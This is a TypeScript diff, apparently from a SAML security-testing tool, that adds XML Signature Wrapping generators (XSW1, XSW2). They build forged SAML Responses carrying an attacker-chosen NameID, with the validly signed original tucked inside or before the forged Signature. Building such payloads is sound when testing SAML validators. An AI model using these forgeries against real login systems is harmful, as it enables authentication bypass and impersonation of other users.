@@ -127,6 +127,27 @@ export function xswSignedInExtensions(xml: string, evilNameId: string, options: 
   return forged.slice(0, status.start) + `<${prefix}Extensions>${original.text}</${prefix}Extensions>` + forged.slice(status.start);
 }
 
+/** A copy of the signed Response with a new ID and the attacker's NameID (its signature no longer matches it). */
+function forgedResponse(original: string, evilNameId: string): string {
+  return withNameIdText(withId(original, `_${randomUUID()}`), escapeXml(evilNameId));
+}
+
+/** XSW1 (a signed Response): a forged Response holds the untouched signed original inside its copied Signature. */
+export function xswResponseInsideSignature(xml: string, evilNameId: string): string {
+  const original = findElement(xml, 'Response');
+  const evil = forgedResponse(original.text, evilNameId);
+  const signature = findElement(evil, 'Signature');
+  return replaceSpan(xml, original, replaceSpan(evil, signature, appendChild(signature.text, original.text)));
+}
+
+/** XSW2 (a signed Response): the untouched signed original sits just before the forged Response's Signature. */
+export function xswResponseBeforeSignature(xml: string, evilNameId: string): string {
+  const original = findElement(xml, 'Response');
+  const evil = forgedResponse(original.text, evilNameId);
+  const signature = findElement(evil, 'Signature');
+  return replaceSpan(xml, original, evil.slice(0, signature.start) + original.text + evil.slice(signature.start));
+}
+
 /**
  * XSW8: an unsigned forged assertion inside a ds:Object appended to the signed assertion's
  * Signature. The signature stays valid (the enveloped-signature transform drops the whole
